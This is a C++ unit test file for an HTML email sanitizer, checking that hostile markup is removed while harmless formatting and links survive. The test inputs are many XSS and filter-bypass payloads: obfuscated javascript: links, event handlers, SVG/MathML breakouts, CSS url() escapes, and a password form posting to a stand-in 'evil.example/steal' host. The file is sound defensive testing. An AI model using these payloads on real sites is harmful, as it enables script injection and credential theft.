// The HTML mail cleaner: hostile inputs lose exactly the dangerous part, harmless content stays.
#include "web/html_clean.hpp"

#include <gtest/gtest.h>

#include <algorithm>
#include <string>
#include <vector>

namespace {

using mv::web::clean_html;
using mv::web::CleanOptions;

std::string lower(std::string s) {
    std::transform(s.begin(), s.end(), s.begin(), [](unsigned char c) { return std::tolower(c); });
    return s;
}

CleanOptions cid_options() {
    CleanOptions o;
    o.cid_url = [](std::string_view cid) {
        std::string out = "/m/7/cid/";
        for (char c : cid) {
            if (std::isalnum(static_cast<unsigned char>(c)) || c == '.' || c == '-' || c == '_') {
                out.push_back(c);
            } else {
                char buf[4];
                std::snprintf(buf, sizeof buf, "%%%02X", static_cast<unsigned char>(c));
                out.append(buf);
            }
        }
        return out;
    };
    return o;
}

struct Case {
    const char* name;
    std::string input;
    std::vector<std::string> gone;  // must not appear (case-insensitive) in the output
    std::vector<std::string> kept;  // must appear (exactly) in the output
};

std::vector<Case> hostile_cases() {
    return {
        {"script_element", "<p>hello</p><script>alert(1)</script>", {"<script", "alert(1)"}, {"<p>hello</p>"}},
        {"script_in_head", "<html><head><script src=x.js></script><title>T</title></head><body>b</body></html>",
         {"<script", "x.js", "<title"}, {"b</body>"}},
        {"img_slash_src_onerror", "<img/src=x onerror=alert(1)>text", {"onerror", "alert(1)", "<img"}, {"text"}},
        {"img_onerror_with_cid", "<img src=\"cid:a@b\" onerror=\"alert(1)\" alt=\"logo\">",
         {"onerror", "alert"}, {"<img src=\"/m/7/cid/a%40b\" alt=\"logo\">"}},
        {"event_handlers_everywhere", "<div onclick=\"x()\" onmouseover=x() style=\"color:red\">ok</div>",
         {"onclick", "onmouseover", "x()"}, {"<div style=\"color:red\">ok</div>"}},
        {"body_onload", "<body onload=alert(1) bgcolor=\"#fff\">hi</body>", {"onload", "alert"},
         {"<body bgcolor=\"#fff\">hi"}},
        {"svg_script", "<svg><script>alert(1)</script><circle r=1 onload=alert(2)></circle></svg>after",
         {"<svg", "<script", "alert", "circle"}, {"after"}},
        {"svg_foreignobject", "<svg><foreignObject><iframe src=javascript:alert(1)></iframe></foreignObject></svg>x",
         {"<svg", "foreignobject", "iframe", "javascript"}, {"x</body>"}},
        {"svg_animate_href", "<svg><a><animate attributeName=href values=javascript:alert(1) /><text>c</text></a></svg>",
         {"animate", "javascript", "<svg"}, {}},
        {"math_mxss",
         "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)></style></mglyph></table></mtext></math>",
         {"<math", "onerror", "alert", "mglyph"}, {}},
        {"math_href", "<math href=\"javascript:alert(1)\">click</math>", {"javascript", "<math"}, {}},
        {"javascript_href", "<a href=\"javascript:alert(1)\">link</a>", {"javascript", "href"}, {"<a>link</a>"}},
        {"javascript_href_case_space", "<a href=\"  JaVaScRiPt:alert(1)\">l</a>", {"javascript", "href"}, {"<a>l</a>"}},
        {"javascript_href_entities", "<a href=\"&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;alert(1)\">l</a>",
         {"javascript", "href", "alert"}, {"<a>l</a>"}},
        {"javascript_href_hex_entities_no_semicolon", "<a href=\"&#x6A&#x61&#x76&#x61&#x73&#x63&#x72&#x69&#x70&#x74:alert(1)\">l</a>",
         {"href", "alert"}, {"<a>l</a>"}},
        {"javascript_href_tab_entity", "<a href=\"java&#x09;script:alert(1)\">l</a>", {"script:", "href"}, {"<a>l</a>"}},
        {"javascript_href_newline_entity", "<a href=\"java&#10;script:alert(1)\">l</a>", {"script:", "href"}, {"<a>l</a>"}},
        {"javascript_href_raw_tab", "<a href=\"java\tscript:alert(1)\">l</a>", {"script:", "href"}, {"<a>l</a>"}},
        {"javascript_href_leading_control", "<a href=\"\x01javascript:alert(1)\">l</a>", {"javascript", "href"}, {"<a>l</a>"}},
        {"javascript_href_colon_entity", "<a href=\"javascript&colon;alert(1)\">l</a>", {"javascript", "href"}, {"<a>l</a>"}},
        {"vbscript_href", "<a href=\"vbscript:msgbox(1)\">l</a>", {"vbscript", "href"}, {"<a>l</a>"}},
        {"data_href", "<a href=\"data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==\">l</a>",
         {"data:", "href"}, {"<a>l</a>"}},
        {"relative_href_into_app", "<a href=\"/logout\">l</a><a href=\"//evil.example/x\">m</a>",
         {"logout", "evil.example", "href"}, {"<a>l</a><a>m</a>"}},
        {"http_link_kept_and_hardened", "<a href=\"https://example.org/a?b=1&amp;c=2\" target=\"_self\" ping=\"http://t\">site</a>",
         {"_self", "ping", "http://t"},
         {"<a href=\"https://example.org/a?b=1&amp;c=2\" rel=\"noopener noreferrer\" target=\"_blank\">site</a>"}},
        {"mailto_link", "<a href=\"mailto:a@example.org\">mail</a>", {},
         {"<a href=\"mailto:a@example.org\" rel=\"noopener noreferrer\" target=\"_blank\">mail</a>"}},
        {"fragment_link", "<a href=\"#top\">up</a>", {"_blank"}, {"<a href=\"#top\">up</a>"}},
        {"base_href", "<head><base href=\"http://evil.example/\"></head><a href=\"x\">l</a>", {"<base", "evil.example"},
         {"<a>l</a>"}},
        {"meta_refresh", "<meta http-equiv=\"refresh\" content=\"0;url=http://evil.example/\"><p>p</p>",
         {"refresh", "evil.example", "http-equiv"}, {"<p>p</p>"}},
        {"meta_in_body", "<body><p>a</p><meta http-equiv=refresh content=0;url=javascript:alert(1)></body>",
         {"refresh", "javascript"}, {"<p>a</p>"}},
        {"form_and_controls", "<form action=\"http://evil.example/steal\" method=post><p>Name</p><input name=pw type=password>"
                              "<button formaction=http://x>Go</button><select><option>o</option></select>"
                              "<textarea>t</textarea></form>after",
         {"<form", "action", "evil.example", "<input", "<button", "formaction", "<select", "<option", "<textarea"},
         {"<p>Name</p>", "after"}},
        {"style_url_background", "<div style=\"background:url(http://evil.example/t.png);color:blue\">d</div>",
         {"url(", "evil.example"}, {"<div style=\"color:blue\">d</div>"}},
        {"style_url_escaped", "<div style=\"background:u\\72 l(http://evil.example/t.png)\">d</div>",
         {"evil.example", "style="}, {"<div>d</div>"}},
        {"style_url_comment_split", "<div style=\"background:u/**/rl(http://evil.example/)\">d</div>", {"evil.example"}, {"d</div>"}},
        {"style_url_entity", "<div style=\"background:&#117;rl(http://evil.example/)\">d</div>", {"evil.example", "style="},
         {"<div>d</div>"}},
        {"style_expression", "<p style=\"width:expression(alert(1));color:red\">e</p>", {"expression", "alert"},
         {"<p style=\"color:red\">e</p>"}},
        {"style_expression_escaped", "<p style=\"width:e\\78pression(alert(1))\">e</p>", {"pression", "alert"}, {"<p>e</p>"}},
        {"style_image_set", "<p style=\"background-image:image-set('http://evil.example/a.png' 1x)\">e</p>",
         {"image-set", "evil.example"}, {"<p>e</p>"}},
        {"style_behavior_binding", "<p style=\"behavior:url(x.htc);-moz-binding:url(x.xml#x)\">e</p>", {"behavior", "binding"},
         {"<p>e</p>"}},
        {"style_element_url_and_import",
         "<style>@import 'http://evil.example/a.css';\n@font-face{font-family:x;src:url(http://evil.example/f)}\n"
         "p{color:red;background:url(http://evil.example/b.png)}\n@media (max-width:600px){.c{width:100%}}</style><p>s</p>",
         {"@import", "font-face", "evil.example", "url("},
         {"<style>p{color:red}\n@media (max-width:600px){.c{width:100%}\n}\n</style>", "<p>s</p>"}},
        {"style_element_breakout", "<style>p{content:\"</style><script>alert(1)</script>\"}</style>x", {"<script", "</style><"},
         {"x</body>"}},
        {"iframe_srcdoc", "<iframe srcdoc=\"&lt;script&gt;alert(1)&lt;/script&gt;\"></iframe>ok", {"iframe", "srcdoc", "alert"},
         {"ok"}},
        {"object_embed_applet", "<object data=\"x.swf\"><param name=a value=b></object><embed src=\"x.swf\"><applet code=x></applet>ok",
         {"<object", "<embed", "<applet", "x.swf", "<param"}, {"ok"}},
        {"link_stylesheet", "<link rel=stylesheet href=\"http://evil.example/a.css\"><p>p</p>", {"<link", "evil.example"},
         {"<p>p</p>"}},
        {"remote_image", "<p>before<img src=\"http://evil.example/track.gif\" width=1 height=1 alt=\"pixel\">after</p>",
         {"evil.example", "<img"}, {"before", "[pixel]", "after"}},
        {"remote_image_srcset", "<img src=\"cid:x\" srcset=\"http://evil.example/a.png 2x\">", {"srcset", "evil.example"},
         {"<img src=\"/m/7/cid/x\">"}},
        {"protocol_relative_image", "<img src=\"//evil.example/a.png\">x", {"evil.example", "<img"}, {"x"}},
        {"td_background", "<table><tr><td background=\"http://evil.example/bg.png\">c</td></tr></table>",
         {"background", "evil.example"}, {"<td>c</td>"}},
        {"comment_tricks", "<!-- <script>alert(1)</script> --><p>v</p><!--><img src=x onerror=alert(2)>-->",
         {"<script", "onerror", "alert", "<!--"}, {"<p>v</p>"}},
        {"cdata_trick", "<![CDATA[<script>alert(1)</script>]]><p>w</p>", {"<script", "cdata"}, {"<p>w</p>"}},
        {"noscript_mxss", "<noscript><p title=\"</noscript><img src=x onerror=alert(1)>\"></noscript>n",
         {"<img", "<noscript"}, {"title=\"&lt;/noscript&gt;&lt;img src=x onerror=alert(1)&gt;\"", "n</p>"}},
        {"template_content", "<template><img src=x onerror=alert(1)></template>t", {"template", "onerror"}, {"t</body>"}},
        {"xmp_plaintext", "<xmp><script>alert(1)</script></xmp>x", {"<script", "<xmp"}, {"x</body>"}},
        {"title_attribute_escaped", "<p title='\"><script>alert(1)</script>'>q</p>", {"<script"},
         {"<p title=\"&quot;&gt;&lt;script&gt;alert(1)&lt;/script&gt;\">q</p>"}},
        {"text_escaped", "<p>&lt;script&gt;alert(1)&lt;/script&gt;</p>", {"<script"}, {"<p>&lt;script&gt;alert(1)&lt;/script&gt;</p>"}},
        {"namespaced_attribute", "<a xlink:href=\"javascript:alert(1)\">x</a>", {"javascript", "xlink"}, {"<a>x</a>"}},
        {"data_image_png_kept", "<img src=\"data:image/png;base64,iVBORw0KGgo=\" alt=a>", {},
         {"<img src=\"data:image/png;base64,iVBORw0KGgo=\" alt=\"a\">"}},
        {"data_image_svg_dropped", "<img src=\"data:image/svg+xml;base64,PHN2Zz4=\">x", {"svg", "<img"}, {"x"}},
        {"frameset", "<frameset><frame src=\"http://evil.example/\"></frameset>", {"frame", "evil.example"}, {"<body>"}},
        {"marquee_unknown_unwrapped", "<marquee onstart=alert(1)>m</marquee><custom-el x=1>c</custom-el>",
         {"onstart", "marquee", "custom-el"}, {"m", "c</body>"}},
        {"audio_video", "<video poster=\"http://evil.example/p.png\"><source src=\"http://evil.example/v\"></video>v",
         {"video", "poster", "evil.example"}, {"v</body>"}},
        {"area_map", "<map name=m><area href=\"javascript:alert(1)\"></map>x", {"<area", "javascript"}, {"x</body>"}},
        {"harmless_table_and_formatting",
         "<table border=0 cellpadding=\"4\"><tr><td colspan=2 align=center><b>Bold</b> <i>it</i></td></tr></table>",
         {},
         {"<table border=\"0\" cellpadding=\"4\"><tbody><tr><td colspan=\"2\" align=\"center\"><b>Bold</b> <i>it</i></td></tr></tbody></table>"}},
    };
}

TEST(HtmlClean, HostileInputsLoseTheDangerousPartOnly) {
    const CleanOptions options = cid_options();
    for (const Case& c : hostile_cases()) {
        SCOPED_TRACE(c.name);
        const std::string out = clean_html(c.input, options);
        const std::string low = lower(out);
        for (const std::string& g : c.gone) EXPECT_EQ(low.find(lower(g)), std::string::npos) << "still has " << g << " in\n" << out;
        for (const std::string& k : c.kept) EXPECT_NE(out.find(k), std::string::npos) << "lost " << k << " in\n" << out;
    }
}

TEST(HtmlClean, OutputIsACompleteDocument) {
    // No doctype in the mail: quirks mode, and so none in the result (same parse, same layout).
    const std::string out = clean_html("just text", {});
    EXPECT_EQ(out, "<html><head><meta charset=\"utf-8\"></head><body>just text</body></html>");
    EXPECT_EQ(clean_html("<!doctype html><p>x", {}).rfind("<!DOCTYPE html>\n<html><head>", 0), 0u);
    EXPECT_EQ(clean_html("<!DOCTYPE html PUBLIC \"-//W3C//DTD XHTML 1.0 Transitional//EN\" "
                         "\"http://www.w3.org/TR/xhtml1/DTD/xhtml1-transitional.dtd\"><p>x", {})
                  .rfind("<!DOCTYPE html", 0),
              0u);  // gumbo 0.10.1 calls this no-quirks (the spec: limited quirks; same parse)
}

TEST(HtmlClean, CidImagesGoThroughTheCallbackAndAreDroppedWithoutIt) {
    const std::string html = "<img src=\"cid:part1.ABC%40example.org\" alt=\"logo\"><img src=\"CID:<x y>\">";
    const std::string with = clean_html(html, cid_options());
    EXPECT_NE(with.find("<img src=\"/m/7/cid/part1.ABC%40example.org\" alt=\"logo\">"), std::string::npos) << with;
    EXPECT_NE(with.find("<img src=\"/m/7/cid/x%20y\">"), std::string::npos) << with;
    const std::string without = clean_html(html, {});
    EXPECT_EQ(without.find("<img"), std::string::npos) << without;
    EXPECT_EQ(without.find("cid:"), std::string::npos) << without;
    EXPECT_NE(without.find("[logo]"), std::string::npos) << without;
}

TEST(HtmlClean, CidLinkIsRewrittenToo) {
    const std::string out = clean_html("<a href=\"cid:doc@x\">attached</a>", cid_options());
    EXPECT_NE(out.find("href=\"/m/7/cid/doc%40x\""), std::string::npos) << out;
}

TEST(HtmlClean, CleaningTwiceChangesNothing) {
    // The browser must build the tree the cleaner built: its output, parsed and cleaned again,
    // is the same bytes (quirks mode kept, <pre> newline kept, no stray whitespace added).
    const char* inputs[] = {
        "<p><font size=7><strong><table><tr><td>quirks: table inside p</td></tr></table></strong></font></p>",
        "<pre wrap><!---->\nline one\nline two</pre>",
        "<!DOCTYPE html><p>a<table><tr><td>b</td></tr></table>",
        "<ul><li>one<li>two</ul><dl><dt>t<dd>d</dl><p>unclosed<p>paragraphs",
        "<b><i>mis</b>nested</i> formatting <a href=\"https://example.org\">link <a href=\"#x\">inner</a></a>",
        "<table><tr><td>cell</td>foster text<td>2</td></tr></table>",
    };
    for (const char* in : inputs) {
        SCOPED_TRACE(in);
        const std::string once = clean_html(in, cid_options());
        EXPECT_EQ(clean_html(once, cid_options()), once);
    }
}

TEST(HtmlClean, InputBeyondMaxInputIsCutAtACharacterBoundaryWithANote) {
    CleanOptions o;
    o.max_input = 10;
    // "ééééé" is 10 bytes; one more byte of input would split a character at 10/11.
    const std::string out = clean_html("<p>\xC3\xA9\xC3\xA9\xC3\xA9\xC3\xA9 hidden-tail</p>", o);
    EXPECT_EQ(out.find("hidden-tail"), std::string::npos) << out;
    EXPECT_NE(out.find("\xC3\xA9\xC3\xA9\xC3\xA9"), std::string::npos) << out;
    EXPECT_NE(out.find("mv-truncated"), std::string::npos) << out;
    EXPECT_EQ(out.find("\xC3</"), std::string::npos) << "split character";
}

TEST(HtmlClean, DeepNestingIsUnwrappedBeyondMaxDepth) {
    std::string html;
    for (int i = 0; i < 5000; ++i) html.append("<div>");
    html.append("deep");
    const std::string out = clean_html(html, {});
    EXPECT_NE(out.find("deep"), std::string::npos);
    std::size_t divs = 0;
    for (std::size_t p = out.find("<div>"); p != std::string::npos; p = out.find("<div>", p + 1)) ++divs;
    EXPECT_EQ(divs, CleanOptions{}.max_depth);
    EXPECT_NE(out.find("</div></body></html>"), std::string::npos);
}

TEST(HtmlClean, AParseOverItsCpuBudgetIsAbandoned) {
    // 400,000 nested elements make the HTML5 tree builder quadratic (minutes of CPU); the
    // parse gives up at the budget, frees the partial tree without recursion and says so.
    std::string html;
    for (int i = 0; i < 400000; ++i) html.append("<div>");
    html.append("never shown");
    CleanOptions o;
    o.max_parse_ms = 50;
    const std::string out = clean_html(html, o);
    EXPECT_NE(out.find("mv-too-complex"), std::string::npos) << out.substr(0, 300);
    EXPECT_EQ(out.find("never shown"), std::string::npos);
    EXPECT_NE(out.find("</body></html>"), std::string::npos);
    // The same cleaner still works afterwards (no state left behind by the abandoned parse).
    EXPECT_NE(clean_html("<p>fine</p>", {}).find("<p>fine</p>"), std::string::npos);
}

TEST(HtmlClean, OutputIsBounded) {
    CleanOptions o;
    o.max_output = 1000;
    std::string html;
    for (int i = 0; i < 5000; ++i) html.append("<b>&amp;&amp;</b>");
    const std::string out = clean_html(html, o);
    EXPECT_LT(out.size(), 1000u + 200u);
    EXPECT_NE(out.find("</body></html>"), std::string::npos);
}

TEST(HtmlClean, InvalidUtf8AndNulBytesDoNotSurvive) {
    const std::string html = std::string("<p>a\xFF\xFE") + std::string(1, '\0') + "b</p>";
    const std::string out = clean_html(html, {});
    EXPECT_EQ(out.find('\0'), std::string::npos);
    EXPECT_EQ(out.find("\xFF"), std::string::npos);
    EXPECT_NE(out.find("a"), std::string::npos);
}

TEST(HtmlClean, PreKeepsALeadingNewline) {
    const std::string out = clean_html("<pre>\n\nindented\n</pre><pre><!---->\nafter a comment</pre>", {});
    EXPECT_NE(out.find("<pre>\n\nindented\n</pre>"), std::string::npos) << out;
    EXPECT_NE(out.find("<pre>\n\nafter a comment</pre>"), std::string::npos) << out;
}

TEST(CssClean, Declarations) {
    EXPECT_EQ(mv::web::clean_css_declarations("color: red; font-weight:bold"), "color:red; font-weight:bold");
    EXPECT_EQ(mv::web::clean_css_declarations("background:rgb(1,2,3) url('x')"), "");
    EXPECT_EQ(mv::web::clean_css_declarations("width:calc(100% - 2px)"), "width:calc(100% - 2px)");
    EXPECT_EQ(mv::web::clean_css_declarations("background:linear-gradient(red, blue)"),
              "background:linear-gradient(red, blue)");
    EXPECT_EQ(mv::web::clean_css_declarations("x:y;}body{color:red"), "x:y");
    EXPECT_EQ(mv::web::clean_css_declarations("font-family:\"Times; New\";color:red"),
              "font-family:\"Times; New\"; color:red");
    EXPECT_EQ(mv::web::clean_css_declarations("color:red;content:\"unterminated"), "color:red");
    EXPECT_EQ(mv::web::clean_css_declarations("--x:url(http://e/)"), "");
    EXPECT_EQ(mv::web::clean_css_declarations("background:\\75\\72\\6c(http://e/)"), "");
    EXPECT_EQ(mv::web::clean_css_declarations("background:url\\28 http://e/)"), "");
}

TEST(CssClean, Stylesheet) {
    EXPECT_EQ(mv::web::clean_css_stylesheet("@import url(http://e/a.css); p { color: red }"), "p{color:red}\n");
    EXPECT_EQ(mv::web::clean_css_stylesheet("@charset \"utf-8\"; a{b:c}"), "a{b:c}\n");
    EXPECT_EQ(mv::web::clean_css_stylesheet("@font-face{src:url(x)} a{b:c}"), "a{b:c}\n");
    EXPECT_EQ(mv::web::clean_css_stylesheet("a{background-image:url(x)}"), "");
    EXPECT_EQ(mv::web::clean_css_stylesheet("a[title=\"}{\"]{color:red}"), "a[title=\"}{\"]{color:red}\n");
    EXPECT_EQ(mv::web::clean_css_stylesheet("p{color:red}</style><script>"), "p{color:red}\n");
    EXPECT_EQ(mv::web::clean_css_stylesheet("@media screen{@import 'x'; a{color:red}}"),
              "@media screen{a{color:red}\n}\n");
}

}  // namespace
